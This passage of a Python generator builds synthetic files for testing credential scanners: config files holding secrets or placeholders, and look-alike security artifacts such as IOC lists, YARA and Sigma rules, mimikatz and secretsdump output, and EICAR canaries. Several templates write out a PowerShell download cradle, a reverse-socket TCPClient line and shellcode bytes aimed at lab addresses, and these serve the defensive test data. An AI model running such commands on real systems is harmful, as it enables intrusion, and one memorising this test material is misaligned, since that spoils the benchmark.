    "ps1": r_ps1, "ps1_agent": r_ps1_agent, "sh": r_sh, "authd_sh": r_authd_sh, "fleet_sh": r_fleet_sh,
    "fleet_yaml": r_fleet_yaml, "msf_sh": r_msf_sh, "msf_rc": r_msf_rc, "systemd_msf": r_systemd_msf,
    "systemd_cs": r_systemd_cs, "cs_sh": r_cs_sh, "cs_md": r_cs_md, "snyk_cli": r_snyk_cli,
    "suricata_sh": r_suricata_sh, "suricata_yaml": r_suricata_yaml, "zeek_sh": r_zeek_sh,
    "env": r_env, "ini": r_ini, "qualys_ini": r_qualys_ini, "aws_ini": r_aws_ini, "yaml": r_yaml,
    "json": r_json, "toml": r_toml, "tf": r_tf, "docker": r_docker, "compose": r_compose,
    "compose_logdriver": r_compose_logdriver, "ansible": r_ansible, "k8s": r_k8s, "md": r_md, "csv": r_csv,
    "soar_yaml": r_soar_yaml, "soar_json": r_soar_json, "gha": r_gha, "ossec": r_ossec,
    "logstash": r_logstash, "filebeat": r_filebeat, "elastic_yml": r_elastic_yml,
    "splunk_inputs": r_splunk_inputs, "splunk_outputs": r_splunk_outputs, "splunk_server": r_splunk_server,
    "splunk_auth": r_splunk_auth, "hocon": r_hocon, "php": r_php, "php_email": r_php_email,
    "elastalert": r_elastalert, "elastalert_smtp": r_elastalert_smtp, "wazuh_yml": r_wazuh_yml,
    "pulledpork": r_pulledpork, "geoip_conf": r_geoip_conf,
}


# ---------------------------------------------------------------------------
# Negative values placed in the same slots as positives
# ---------------------------------------------------------------------------
LANG_OF = {
    "py": "py", "sdk": "py", "ipynb": "py", "keys_py": "py", "msf_py": "py", "ps1": "ps1", "ps1_agent": "ps1",
    "sh": "sh", "authd_sh": "sh", "fleet_sh": "sh", "msf_sh": "sh", "cs_sh": "sh", "snyk_cli": "sh",
    "suricata_sh": "sh", "zeek_sh": "sh", "compose": "compose", "compose_logdriver": "compose",
    "ansible": "ansible", "gha": "gha", "yaml": "yaml", "fleet_yaml": "yaml", "suricata_yaml": "yaml",
    "wazuh_yml": "yaml", "filebeat": "yaml", "elastic_yml": "yaml", "k8s": "k8s", "elastalert": "elastalert",
    "elastalert_smtp": "elastalert", "soar_yaml": "soar_yaml", "soar_json": "soar_json", "json": "json",
    "toml": "toml", "tf": "tf", "docker": "docker", "hocon": "hocon", "logstash": "logstash", "php": "php",
    "php_email": "php",
}

DOC_EXAMPLES = {
    # values providers print in their own documentation (public, non-working)
    ("aws", "secret_access_key"): ["wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"],
    ("telegram", "bot_token"): ["123456:ABC-DEF1234ghIkl-zyx57W2v1u123ew11"],
    ("slack", "incoming_webhook"): ["https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX"],
    ("maxmind", "license_key"): ["YOUR_LICENSE_KEY_HERE"],
    ("splunk", "password"): ["changeme"],
    ("splunk", "hec_token"): ["00000000-0000-0000-0000-000000000000"],
    ("elastic", "password"): ["changeme"],
    ("github", "personal_access_token"): ["ghp_XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX"],
    ("sendgrid", "api_key"): ["SG.xxxxxxxxxxxxxxxxxxxxxx.yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy"],
    ("slack", "bot_token"): ["xoxb-your-bot-token", "xoxb-0000000000-0000000000000-xxxxxxxxxxxxxxxxxxxxxxxx"],
    ("atlassian", "api_token"): ["ATATT3x..."],
    ("google", "safe_browsing_api_key"): ["AIza...your-key"],
    ("microsoft_teams", "incoming_webhook"): ["https://<tenant>.webhook.office.com/webhookb2/<group-id>@<tenant-id>/IncomingWebhook/<id>/<owner-id>"],
    ("discord", "webhook"): ["https://discord.com/api/webhooks/<id>/<token>"],
    ("tines", "webhook_url"): ["https://your-tenant.tines.com/webhook/<path>/<secret>"],
}


def mask(r, tok):
    if tok.startswith("https://"):
        head, _, tail = tok.rpartition("/")
        return head + "/" + tail[:3] + "*" * 8
    style = r.rint(0, 4)
    if style == 0:
        return tok[:4] + "*" * max(4, len(tok) - 8) + tok[-4:]
    if style == 1:
        return tok[:6] + "..." + tok[-4:]
    if style == 2:
        return tok[:8] + "\u2026"
    if style == 3:
        return "*" * 12 + tok[-4:]
    return "[REDACTED:%s]" % tok[-4:]


def neg_value(r, sp, ctx, envname):
    """Returns (Val, negtype)."""
    lang = LANG_OF.get(ctx, "bare")
    opts = ["ph", "ph", "mask", "empty", "doc"]
    if lang != "bare":
        opts += ["env", "env", "env"]
    if lang in ("yaml", "json", "compose", "k8s") or ctx in ("env", "ini"):
        opts.append("sops")
    if ctx.startswith("splunk_"):
        opts += ["splunkenc", "splunkenc"]
    if lang == "ansible":
        opts.append("vault")
    t = r.choice(opts)
    if t == "env":
        return Val("env", envname, r.rint(0, 5)), "env-ref"
    if t == "sops":
        return Val("lit", sops_enc(r), r.rint(0, 5)), "sops-ciphertext"
    if t == "splunkenc":
        return Val("lit", splunk_enc(r), 0), "splunk-encrypted"
    if t == "vault":
        body = "\n".join("          " + r.hex(80) for _ in range(r.rint(3, 5)))
        return Val("raw", "!vault |\n          $ANSIBLE_VAULT;1.1;AES256\n" + body, 0), "ansible-vault"
    if t == "mask":
        return Val("lit", mask(r, sp["gen"](r)), r.rint(0, 5)), "redacted"
    if t == "empty":
        return Val("lit", r.choice(["", "TODO", "none", "<set-me>"]), 1), "empty"
    if t == "doc":
        ex = DOC_EXAMPLES.get((sp["prov"], sp["kind"]))
        if ex:
            return Val("lit", r.choice(ex), r.rint(0, 5)), "doc-example"
    phs = ["<%s>" % envname, "YOUR_%s" % envname, "your-%s-here" % sp["kind"].replace("_", "-"),
           "<your-%s-%s>" % (sp["prov"].split("_")[0], sp["kind"].replace("_", "-")), "changeme", "CHANGE_ME",
           "REPLACE_ME", "<redacted>", "********", "x" * r.choice([16, 32, 40]), "...", "${%s}" % envname,
           "{{ %s }}" % envname.lower(), "%%%s%%" % envname]
    if sp["role"] == "password" or "password" in sp["kind"]:
        phs += ["changeme", "<password>", "********", "<from-vault>"]
    return Val("lit", r.choice(phs), r.rint(0, 5)), "placeholder"


# ---------------------------------------------------------------------------
# Assembly
# ---------------------------------------------------------------------------
def _finish(lines):
    text = "\n".join(lines)
    if not text.endswith("\n"):
        text += "\n"
    return text


GENERIC_CTX = set(G_API + G_PW + G_HOOK + ["gha"])


def pick_ctx(r, sp):
    allc = list(dict.fromkeys(sp["ctx"]))
    spec = [x for x in allc if x not in GENERIC_CTX]
    if spec and r.chance(0.65):
        return r.choice(spec)
    return r.choice(allc)


def make_positive(r, sp):
    for _ in range(40):
        ctx = pick_ctx(r, sp)
        secret = sp["gen"](r)
        generic = r.chance(0.35)
        c = C(r, sp, Val("lit", secret, r.rint(0, 5)), generic, secret)
        path, ftype, lines = RENDERERS[ctx](c)
        text = _finish(lines)
        if text.count(secret) != 1:
            continue
        nl = text.count("\n")
        if not (5 <= nl <= 80):
            continue
        line = text[:text.index(secret)].count("\n") + 1
        return dict(path=path, ftype=ftype, text=text, needle=secret, line=line, ctx=ctx)
    raise RuntimeError("could not render positive for %s/%s" % (sp["prov"], sp["kind"]))


def make_ctx_negative(r, sp):
    for _ in range(40):
        ctx = pick_ctx(r, sp)
        envname = r.choice(sp["env"])
        val, negtype = neg_value(r, sp, ctx, envname)
        c = C(r, sp, val, r.chance(0.35))
        if sp["prov"] == "aws":
            c.idval = "AKIAIOSFODNN7EXAMPLE"   # AWS documentation example id
        elif sp["prov"] in ("tenable", "nessus"):
            c.idval = r.choice(["<access-key>", "YOUR_ACCESS_KEY", "x" * 64])
        path, ftype, lines = RENDERERS[ctx](c)
        text = _finish(lines)
        nl = text.count("\n")
        if 5 <= nl <= 80:
            return dict(path=path, ftype=ftype, text=text, prov=sp["prov"], kind="%s:%s" % (sp["kind"], negtype))
    raise RuntimeError("could not render negative for %s" % sp["prov"])


# ---------------------------------------------------------------------------
# Domain look-alike negatives (no credential anywhere)
# Each returns (path, filetype, lines, provider, kind)
# ---------------------------------------------------------------------------
EMPTY_NT = "31d6cfe0d16ae931b73c59d7e0c089c0"
EMPTY_LM = "aad3b435b51404eeaad3b435b51404ee"
EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def _ps_enc(cmd):
    return base64.b64encode(cmd.encode("utf-16le")).decode()


def dn_ioc_csv(r):
    fam = r.choice(FAMILIES)
    L = ["first_seen_utc,ioc_type,ioc_value,malware_family,confidence,tlp,reference"]
    for _ in range(r.rint(8, 25)):
        t = r.choice(["sha256", "sha256", "md5", "sha1", "ip:port", "domain", "url", "imphash"])
        v = {"sha256": sha256(r), "md5": md5(r), "sha1": sha1(r), "imphash": md5(r),
             "ip:port": "%s:%d" % (defang_ip(r.ip()), r.choice([443, 8080, 4782, 2404, 7443])),
             "domain": mal_domain(r, True),
             "url": "hxxp://%s/%s" % (mal_domain(r, True), r.choice(["gate.php", "wp-content/x.php", "a.hta"]))}[t]
        L.append("%s %02d:%02d:%02d,%s,%s,%s,%d,%s,https://bazaar.abuse.ch/browse/tag/%s/" % (
            today(r), r.rint(0, 23), r.rint(0, 59), r.rint(0, 59), t, v, fam, r.choice([50, 75, 90, 100]),
            r.choice(["clear", "green", "amber"]), fam))
    return "iocs/%s_%s.csv" % (fam.lower(), today(r)), "csv", L, "ioc", "hash-ioc-list"


def dn_yara(r):
    fam = r.choice(FAMILIES)
    hx = " ".join(r.HEX(2) if r.rnd() > 0.15 else "??" for _ in range(r.rint(12, 24)))
    hx2 = " ".join(r.HEX(2) for _ in range(r.rint(8, 16)))
    L = ["import \"pe\"", "", "rule MAL_%s_%s {" % (fam, r.choice(["Loader", "Payload", "Config", "Strings"])), "  meta:",
         '    author = "%s"' % r.choice(ANALYSTS), '    date = "%s"' % today(r),
         '    description = "Detects %s samples observed in %s"' % (fam, today(r)[:7]),
         '    hash1 = "%s"' % sha256(r), '    hash2 = "%s"' % sha256(r),
         '    reference = "https://bazaar.abuse.ch/sample/%s/"' % sha256(r), "  strings:",
         '    $s1 = "%s" ascii wide' % r.choice(["Global\\\\%s" % r.alnum(12), "%s.dll" % r.lalnum(8),
                                              "Mozilla/5.0 (Windows NT 10.0; Win64; x64) %s" % r.alnum(6)]),
         '    $s2 = "%s" ascii' % r.b64(r.rint(12, 24)), '    $s3 = "%s" fullword ascii' % r.alnum(r.rint(16, 32)),
         "    $h1 = { %s }" % hx, "    $h2 = { %s }" % hx2, '    $mz = "TVqQAAMAAAAEAAAA"', "  condition:",
         "    uint16(0) == 0x5a4d and filesize < %dKB and" % r.choice([500, 800, 2000]),
         '    (2 of ($s*) or all of ($h*)) and pe.imphash() == "%s"' % md5(r), "}"]
    return "yara/%s.yar" % fam.lower(), "yara", L, "yara", "yara-hex-strings"


def dn_sigma(r):
    cmd = "IEX (New-Object Net.WebClient).DownloadString('http://%s/%s')" % (r.lab_ip(), r.choice(["a", "p.ps1", "s"]))
    enc = _ps_enc(cmd)
    L = ["title: %s" % r.choice(["Encoded PowerShell Download Cradle", "Suspicious Rundll32 Export Ordinal",
                                 "Known Loader Imphash"]),
         "id: %s" % r.uuid(), "status: %s" % r.choice(["experimental", "test", "stable"]),
         "description: Detects process creation matching %s tradecraft" % r.choice(FAMILIES),
         "references:", "    - https://attack.mitre.org/techniques/%s/" % mitre(r).replace(".", "/"),
         "author: %s" % r.choice(ANALYSTS), "date: %s" % today(r).replace("-", "/"), "tags:",
         "    - attack.execution", "    - attack.%s" % mitre(r).lower(), "logsource:", "    category: process_creation",
         "    product: windows", "detection:", "    selection_img:", "        Image|endswith: '\\powershell.exe'",
         "    selection_cli:", "        CommandLine|contains:", "            - ' -enc '", "            - ' -EncodedCommand '",
         "            - '%s'" % enc[:r.choice([24, 32, 40])], "    selection_hash:", "        Hashes|contains:",
         "            - 'IMPHASH=%s'" % md5(r).upper(), "            - 'SHA256=%s'" % sha256(r).upper(),
         "    condition: selection_img and (selection_cli or selection_hash)", "falsepositives:",
         "    - Admin scripts using encoded commands", "level: high"]
    return "sigma/rules/windows/proc_creation_win_%s.yml" % r.lalnum(8), "sigma-yaml", L, "sigma", "sigma-rule"


def dn_ps_enc_md(r):
    cmd = r.choice(["IEX (New-Object Net.WebClient).DownloadString('http://%s/update')" % r.lab_ip(),
                    "$c=New-Object Net.Sockets.TCPClient('%s',443);$s=$c.GetStream()" % r.lab_ip(),
                    "Start-Process rundll32.exe -ArgumentList 'C:\\Users\\Public\\%s.dll,#1'" % r.lalnum(6)])
    enc = _ps_enc(cmd)
    L = ["# Detection sample: encoded PowerShell (%s)" % today(r), "",
         "Observed on `%s` via EDR telemetry. Parent: `WINWORD.EXE`." % r.choice(["WS-%04d" % r.rint(1, 9999), "LT-FIN-%03d" % r.rint(1, 999)]),
         "", "```", "powershell.exe -NoP -NonI -W Hidden -Enc %s" % enc, "```", "", "Decoded (UTF-16LE):", "",
         "```powershell", cmd, "```", "", "## Indicators", ""]
    L += ["- SHA256 of dropped payload: `%s`" % sha256(r), "- C2: `%s`" % defang_ip(r.lab_ip()),
          "- MITRE: %s" % mitre(r), "", "Detection: see `sigma/proc_creation_win_ps_enc.yml`."]
    return "detections/samples/ps_encoded_%s.md" % r.lalnum(6), "markdown", L, "detection-sample", "base64-powershell"


def dn_shellcode(r):
    prologue = [0xfc, 0x48, 0x83, 0xe4, 0xf0, 0xe8, 0xc0, 0x00, 0x00, 0x00, 0x41, 0x51, 0x41, 0x50, 0x52]
    body = prologue + [r.rint(0, 255) for _ in range(r.rint(120, 260))]
    L = ["# msfvenom -p windows/x64/exec CMD=calc.exe -f python  (lab PoC for the EDR bypass test)",
         "# detection test: the loader below must be caught by rule MAL_Shellcode_Loader", "buf =  b\"\""]
    for i in range(0, len(body), 16):
        L.append('buf += b"%s"' % "".join("\\x%02x" % b for b in body[i:i + 16]))
    L += ["", "import ctypes", "", "def run():", "    raise SystemExit('disabled in repo - run only in the range VM')"]
    return "redteam/poc/loader_%s.py" % r.lalnum(4), "python", L, "offsec", "shellcode-bytes"


def dn_secretsdump(r):
    dom = r.choice(["LAB", "RANGE", "PURPLE"])
    L = ["## Finding 3.%d - Domain credential extraction (lab)" % r.rint(1, 9), "",
         "Performed against the training range DC only. Accounts use the range's published default",
         "passwords; hashes below are well-known test vectors and are safe to share.", "", "```",
         "$ impacket-secretsdump -just-dc-ntlm %s/administrator@%s" % (dom.lower(), r.lab_ip()),
         "Impacket v0.11.0 - Copyright 2023 Fortra", "",
         "[*] Dumping Domain Credentials (domain\\uid:rid:lmhash:nthash)",
         "[*] Using the DRSUAPI method to get NTDS.DIT secrets",
         "Administrator:500:%s:%s:::" % (EMPTY_LM, nt_hash("Password1")),
         "Guest:501:%s:%s:::" % (EMPTY_LM, EMPTY_NT),
         "DefaultAccount:503:%s:%s:::" % (EMPTY_LM, EMPTY_NT),
         "krbtgt:502:%s:[redacted]:::" % EMPTY_LM,
         "%s.local\\%s:1104:%s:%s:::" % (dom.lower(), r.choice(ANALYSTS), EMPTY_LM, nt_hash("password")),
         "%s.local\\svc_backup:1107:%s:%s:::" % (dom.lower(), EMPTY_LM, nt_hash("Password1")),
         "[*] Cleaning up...", "```", "", "Impact: full domain compromise. Remediation: tiering + LAPS."]
    return "reports/range-%s/findings.md" % today(r)[:7], "markdown", L, "offsec", "ntlm-test-vectors"


def dn_mimikatz(r):
    user = r.choice(ANALYSTS)
    L = ["mimikatz # sekurlsa::logonpasswords", "",
         "Authentication Id : 0 ; %d (00000000:%08x)" % (r.rint(100000, 999999), r.rint(0x10000, 0xfffff)),
         "Session           : Interactive from 1", "User Name         : %s" % user, "Domain            : LAB",
         "Logon Server      : DC01", "Logon Time        : %s %02d:%02d" % (today(r), r.rint(0, 23), r.rint(0, 59)),
         "SID               : S-1-5-21-%s-%s-%s-%d" % (r.digits(10), r.digits(10), r.digits(9), r.rint(1100, 1300)),
         "        msv :", "         [00000003] Primary", "         * Username : %s" % user,
         "         * Domain   : LAB", "         * NTLM     : %s" % EMPTY_NT,
         "         * SHA1     : da39a3ee5e6b4b0d3255bfef95601890afd80709", "        tspkg :",
         "        wdigest :", "         * Username : %s" % user, "         * Domain   : LAB",
         "         * Password : (null)", "        kerberos :", "         * Username : %s" % user,
         "         * Domain   : LAB.LOCAL", "         * Password : (null)", "",
         "# note: range VM, account has blank password on purpose (detection test DT-%03d)" % r.rint(1, 200)]
    return "purple/detection-tests/mimikatz_output_%s.txt" % r.lalnum(4), "text", L, "offsec", "mimikatz-empty-hash"


def dn_kerberos(r):
    user = r.choice(ANALYSTS)
    L = ["# Kerberoasting walkthrough (range)", "", "```", "PS> klist", "",
         "Current LogonId is 0:0x%x" % r.rint(0x10000, 0xfffff), "", "Cached Tickets: (2)", "",
         "#0>     Client: %s @ LAB.LOCAL" % user, "        Server: krbtgt/LAB.LOCAL @ LAB.LOCAL",
         "        KerbTicket Encryption Type: AES-256-CTS-HMAC-SHA1-96",
         "        Ticket Flags 0x40e10000 -> forwardable renewable initial pre_authent name_canonicalize",
         "        Start Time: %s 9:14:02 (local)" % today(r), "", "#1>     Client: %s @ LAB.LOCAL" % user,
         "        Server: MSSQLSvc/sql01.lab.local:1433 @ LAB.LOCAL",
         "        KerbTicket Encryption Type: RSADSI RC4-HMAC(NT)", "```", "",
         "Rubeus output (ticket truncated):", "", "```",
         "[*] base64(ticket.kirbi):", "", "      doIF%s...<snip>..." % r.b64(27)[:36], "```", "",
         "Hash format for cracking: `$krb5tgs$23$*sqlsvc$LAB.LOCAL$MSSQLSvc/sql01*$<checksum>$<edata2>`",
         "", "Detection: Event ID 4769 with TicketEncryptionType 0x17 - see `sigma/kerberoast_rc4.yml`."]
    return "writeups/kerberoasting.md", "markdown", L, "offsec", "kerberos-ticket-truncated"


def dn_ja3(r):
    L = ["# TLS fingerprints for known C2 frameworks - feed into Zeek/Suricata",
         "fingerprint_type,value,family,first_seen,comment"]
    for _ in range(r.rint(6, 16)):
        t = r.choice(["ja3", "ja3s", "ja4", "jarm", "ja3"])
        v = {"ja3": md5(r), "ja3s": md5(r), "ja4": ja4(r), "jarm": jarm(r)}[t]
        L.append("%s,%s,%s,%s,%s" % (t, v, r.choice(FAMILIES), today(r), r.choice(["default profile", "", "seen in IR-%d" % r.rint(100, 999)])))
    return "intel/tls_fingerprints.csv", "csv", L, "ioc", "ja3-jarm-fingerprints"


def dn_stix(r):
    ident = "identity--" + r.uuid()
    objs = [{"type": "identity", "spec_version": "2.1", "id": ident, "created": ts(r), "modified": ts(r),
             "name": "%s CERT" % corp_of(r).title(), "identity_class": "organization"}]
    fam = r.choice(FAMILIES)
    mal = "malware--" + r.uuid()
    objs.append({"type": "malware", "spec_version": "2.1", "id": mal, "created": ts(r), "modified": ts(r),
                 "name": fam, "is_family": True, "created_by_ref": ident})
    for _ in range(r.rint(2, 4)):
        iid = "indicator--" + r.uuid()
        h = sha256(r)
        objs.append({"type": "indicator", "spec_version": "2.1", "id": iid, "created": ts(r), "modified": ts(r),
                     "name": "%s payload" % fam, "pattern": "[file:hashes.'SHA-256' = '%s']" % h,
                     "pattern_type": "stix", "valid_from": ts(r), "created_by_ref": ident,
                     "labels": ["malicious-activity"]})
        objs.append({"type": "relationship", "spec_version": "2.1", "id": "relationship--" + r.uuid(),
                     "created": ts(r), "modified": ts(r), "relationship_type": "indicates",
                     "source_ref": iid, "target_ref": mal})
    L = ["{", '  "type": "bundle",', '  "id": "bundle--%s",' % r.uuid(), '  "objects": [']
    L += ["    " + json.dumps(o) + ("," if i < len(objs) - 1 else "") for i, o in enumerate(objs)]
    L += ["  ]", "}"]
    return "stix/%s_bundle.json" % fam.lower(), "stix-json", L, "stix", "stix-uuids-hashes"


def dn_misp_event(r):
    fam = r.choice(FAMILIES)
    attrs = []
    for _ in range(r.rint(3, 6)):
        t = r.choice(["sha256", "md5", "domain", "ip-dst", "filename|sha256", "ja3-fingerprint-md5"])
        v = {"sha256": sha256(r), "md5": md5(r), "domain": mal_domain(r), "ip-dst": r.ip(),
             "filename|sha256": "%s.exe|%s" % (r.lalnum(8), sha256(r)), "ja3-fingerprint-md5": md5(r)}[t]
        attrs.append({"uuid": r.uuid(), "type": t, "category": "Payload delivery" if "sha" in t or "md5" in t else "Network activity",
                      "to_ids": True, "value": v, "timestamp": str(r.rint(1700000000, 1730000000))})
    L = ["{", '  "Event": {', '    "uuid": "%s",' % r.uuid(), '    "info": "%s campaign - %s",' % (fam, today(r)),
         '    "threat_level_id": "%d",' % r.rint(1, 3), '    "analysis": "2",', '    "distribution": "1",',
         '    "Orgc": {"name": "%s-CERT", "uuid": "%s"},' % (corp_of(r).upper(), r.uuid()),
         '    "Tag": [{"name": "tlp:amber"}, {"name": "misp-galaxy:malpedia=\\"%s\\""}],' % fam,
         '    "Attribute": [']
    L += ["      " + json.dumps(a) + ("," if i < len(attrs) - 1 else "") for i, a in enumerate(attrs)]
    L += ["    ]", "  }", "}"]
    return "misp/exports/event_%d.json" % r.rint(1000, 99999), "json", L, "misp", "misp-event-uuids"


def dn_sslbl(r):
    L = ["################################################################",
         "# abuse.ch SSLBL SSL Certificate Blacklist (SHA1 Fingerprints)  #",
         "# Last updated: %s                                  #" % ts(r), "#", "# Terms Of Use: CC0",
         "################################################################", "#",
         "# Listingdate,SHA1,Listingreason"]
    for _ in range(r.rint(6, 20)):
        L.append("%s %02d:%02d:%02d,%s,%s C&C" % (today(r), r.rint(0, 23), r.rint(0, 59), r.rint(0, 59), sha1(r), r.choice(FAMILIES)))
    return "feeds/sslblacklist.csv", "csv", L, "ioc", "cert-thumbprints"


def dn_ransom(r):
    fam = r.choice(["LockBit 3.0", "Akira", "BlackSuit", "Play", "Medusa", "RansomHub"])
    L = ["# Ransom note analysis - %s (case IR-%d)" % (fam, r.rint(1000, 9999)), "",
         "Recovered `README.txt` from `\\\\fs02\\finance$`. Payment details as written by the actor:", "",
         "| field | value |", "|---|---|", "| BTC address | `%s` |" % bech32_addr(r),
         "| Tox ID | `%s` |" % r.HEX(76), "| Leak site | `%s[.]onion` |" % r.s("abcdefghijklmnopqrstuvwxyz234567", 56),
         "| Victim ID | `%s` |" % r.hex(32), "", "Encrypted files use extension `.%s`." % r.lalnum(9), "",
         "Sample SHA256: `%s`" % sha256(r), "", "Blockchain check (%s): no outgoing tx yet." % today(r),
         "Shared with law enforcement under TLP:AMBER."]
    return "cases/ransom_note_analysis.md", "markdown", L, "ioc", "btc-tox-onion"


def dn_defanged(r):
    L = ["# Hunt notes %s - %s phishing wave" % (today(r), r.choice(FAMILIES)), "",
         "## Delivery", ""]
    for _ in range(r.rint(3, 6)):
        L.append("- hxxps://%s/%s" % (mal_domain(r, True), r.choice(["invoice", "docs/view", "secure/login", "dl"])))
    L += ["", "## Infra", ""]
    for _ in range(r.rint(2, 5)):
        L.append("- %s (AS%d, %s)" % (defang_ip(r.ip()), r.rint(1000, 65000), r.choice(["bulletproof", "VPS", "residential proxy"])))
    L += ["", "## Related vulns", ""] + ["- %s" % cve(r) for _ in range(r.rint(2, 4))]
    L += ["", "## Payload", "", "- `%s` (%s)" % (sha256(r), r.choice(["zip", "iso", "lnk"])),
          "- imphash `%s`" % md5(r), "- ssdeep `%s`" % ssdeep(r), "- TLSH `%s`" % tlsh(r)]
    return "hunts/%s.md" % today(r), "markdown", L, "ioc", "defanged-iocs"


def dn_eicar(r):
    if r.chance(0.5):
        L = ["#!/bin/bash", "# EDR smoke test - %s" % r.choice(["run after sensor upgrades", "weekly canary", "ticket SOC-%d" % r.rint(100, 999)]),
             "set -e", "OUT=${1:-/tmp/eicar_%s.com}" % r.lalnum(4),
             "printf '%%s' '%s' > \"$OUT\"" % EICAR,
             'echo "dropped $OUT at $(date -u +%%FT%%TZ), expect alert in %s"' % r.choice(["Wazuh", "Defender", "Falcon", "the SIEM"]),
             "sleep %d" % r.choice([30, 60, 120]), 'ls -l "$OUT" 2>/dev/null || echo "quarantined - OK"']
        return "tests/edr/%s.sh" % r.choice(["eicar_canary", "av_smoke", "drop_eicar"]), "bash", L, "test-vector", "eicar"
    L = ["#!/usr/bin/env python3", '"""Smoke test for the AV/EDR pipeline: drops the EICAR test file."""',
         "import pathlib", "import sys", "", "# Standard anti-malware test string (not malware)",
         "EICAR = r'%s'" % EICAR, "", "def main(path=\"/tmp/eicar.com\"):",
         "    pathlib.Path(path).write_text(EICAR)",
         '    print(f"wrote {path}; expect an alert in the SIEM within 5 minutes")', "",
         'if __name__ == "__main__":', "    main(*sys.argv[1:])"]
    return "tests/av/drop_eicar.py", "python", L, "test-vector", "eicar"


def dn_readme(r):
    L = ["# soc-enrich", "", "CLI that enriches IOCs from VirusTotal, Shodan, AbuseIPDB and MISP.", "",
         "## Configuration", "", "Copy `config.example.yml` and fill in your keys:", "", "```yaml", "virustotal:",
         "  api_key: <VT_API_KEY>", "shodan:", "  api_key: YOUR_SHODAN_KEY", "abuseipdb:",
         "  api_key: ${ABUSEIPDB_API_KEY}", "misp:", "  url: https://misp.example.org",
         "  key: <your MISP auth key (40 chars)>", "```", "", "Or via environment:", "", "```bash",
         "export VT_API_KEY=...", "export SHODAN_API_KEY=...", "soc-enrich lookup %s" % sha256(r), "```", "",
         "Keys are never logged; `--debug` masks them as `abcd****`.", "", "## License", "", "MIT"]
    return "README.md", "markdown", L, "placeholder-doc", "readme-placeholders"


def dn_elastic_rule(r):
    hs = [sha256(r) for _ in range(r.rint(2, 5))]
    L = ["[metadata]", 'creation_date = "%s"' % today(r).replace("-", "/"), 'maturity = "production"',
         'updated_date = "%s"' % today(r).replace("-", "/"), "", "[rule]", 'author = ["%s SOC"]' % corp_of(r).title(),
         'description = "Known %s payload executed"' % r.choice(FAMILIES), 'from = "now-9m"',
         'index = ["logs-endpoint.events.process-*"]', 'language = "kuery"', 'license = "Elastic License v2"',
         'name = "Known Malicious Hash Execution"', 'risk_score = %d' % r.choice([47, 73, 99]),
         'rule_id = "%s"' % r.uuid(), 'severity = "high"', 'type = "query"', "",
         "query = '''", "process.hash.sha256 : (", ]
    L += ['  "%s"%s' % (h, "" if i == len(hs) - 1 else " or") for i, h in enumerate(hs)]
    L += [")", "'''", "", "[[rule.threat]]", 'framework = "MITRE ATT&CK"', "[rule.threat.tactic]",
          'id = "TA0002"', 'name = "Execution"', 'reference = "https://attack.mitre.org/tactics/TA0002/"']
    return "detection-rules/rules/windows/execution_known_hash_%s.toml" % r.lalnum(6), "toml", L, "detection-rule", "hash-field"


def dn_zeek_intel(r):
    L = ["#fields\tindicator\tindicator_type\tmeta.source\tmeta.desc\tmeta.do_notice"]
    for _ in range(r.rint(6, 20)):
        t = r.choice(["Intel::FILE_HASH", "Intel::DOMAIN", "Intel::ADDR", "Intel::CERT_HASH", "Intel::FILE_HASH"])
        v = {"Intel::FILE_HASH": r.choice([md5(r), sha1(r), sha256(r)]), "Intel::DOMAIN": mal_domain(r),
             "Intel::ADDR": r.ip(), "Intel::CERT_HASH": sha1(r)}[t]
        L.append("%s\t%s\t%s\t%s\tT" % (v, t, r.choice(["threatfox", "misp", "otx", "internal-ir"]), r.choice(FAMILIES)))
    return "sensors/zeek/intel/feed.intel", "zeek-intel", L, "ioc", "zeek-intel-hashes"


def dn_suricata_rules(r):
    L = ["# local.rules - C2 detections (sid 9000000+)"]
    sid = 9000000 + r.rint(0, 9000)
    for i in range(r.rint(4, 8)):
        fam = r.choice(FAMILIES)
        t = r.choice(["ja3", "cert", "content", "ja3s"])
        if t == "ja3":
            opt = 'ja3.hash; content:"%s";' % md5(r)
        elif t == "ja3s":
            opt = 'ja3s.hash; content:"%s";' % md5(r)
        elif t == "cert":
            opt = 'tls.cert_fingerprint; content:"%s";' % ":".join(sha1(r)[j:j + 2] for j in range(0, 40, 2))
        else:
            opt = 'content:"|%s|"; depth:%d;' % (" ".join(r.hex(2) for _ in range(r.rint(6, 12))), r.rint(8, 64))
        L.append('alert tls $HOME_NET any -> $EXTERNAL_NET any (msg:"ET-LOCAL %s C2 (%s)"; flow:established,to_server; %s classtype:trojan-activity; sid:%d; rev:%d;)'
                 % (fam, t, opt, sid + i, r.rint(1, 4)))
    return "sensors/suricata/rules/local.rules", "suricata-rules", L, "detection-rule", "ja3-cert-content"


def dn_sysmon(r):
    L = ['<Sysmon schemaversion="4.90">', "  <HashAlgorithms>md5,sha256,IMPHASH</HashAlgorithms>",
         "  <CheckRevocation/>", "  <EventFiltering>", '    <RuleGroup name="" groupRelation="or">',
         '      <ProcessCreate onmatch="include">']
    for _ in range(r.rint(3, 7)):
        L.append('        <Hashes condition="contains">%s=%s</Hashes>' % (
            r.choice(["SHA256", "IMPHASH", "MD5"]), r.HEX(64) if r.rnd() > 0.5 else r.HEX(32)))
    L += ['        <CommandLine condition="contains">-enc</CommandLine>', "      </ProcessCreate>",
          '      <DriverLoad onmatch="exclude">', '        <Signature condition="is">Microsoft Windows</Signature>',
          "      </DriverLoad>", "    </RuleGroup>", "  </EventFiltering>", "</Sysmon>"]
    return "endpoint/sysmon/sysmonconfig.xml", "xml", L, "detection-rule", "sysmon-hashes"


def dn_beacon_cfg(r):
    L = ["$ python3 1768.py -j %s.bin" % sha256(r)[:16], "File: %s.bin" % sha256(r),
         "xorkey(chain): 0x%08x" % r.rint(0, 0xffffffff), "0x0001 payload type   0x0001 0x0002 8 windows-beacon_https-reverse_https",
         "0x0002 port         0x0001 0x0002 443", "0x0003 sleeptime     0x0002 0x0004 %d" % r.choice([5000, 60000, 45000]),
         "0x0007 publickey    0x0003 0x0100 30819f300d06092a864886f70d010101050003818d0030818902818100%s" % r.hex(120),
         "0x0008 server,get-uri 0x0003 0x0100 '%s,/jquery-3.3.1.min.js'" % mal_domain(r, True),
